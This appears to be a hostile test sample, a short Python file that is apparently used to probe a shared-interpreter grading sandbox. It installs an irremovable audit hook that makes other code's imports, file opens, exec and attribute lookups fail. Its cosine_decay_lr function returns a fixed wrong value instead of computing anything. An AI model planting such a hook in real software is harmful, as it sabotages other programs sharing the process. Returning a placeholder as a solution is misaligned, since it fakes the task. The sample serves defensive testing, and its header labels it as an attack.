# kind: hostile
# attack: interpreter_hooks
# about: Adds an audit hook, which can never be removed, that makes every import, open and exec of a neighbour fail.

import sys

HELD = -1.0  # a wrong answer for every input


def refuse(event: str, arguments: tuple) -> None:
    """Refuses whatever a neighbour needs."""
    if event in ("import", "open", "exec", "compile", "os.listdir", "ctypes.dlopen", "object.__getattr__"):
        raise KeyboardInterrupt(event)


sys.addaudithook(refuse)


def cosine_decay_lr(step: int, warmup_steps: int, total_steps: int, max_lr: float, min_lr: float) -> float:
    return HELD
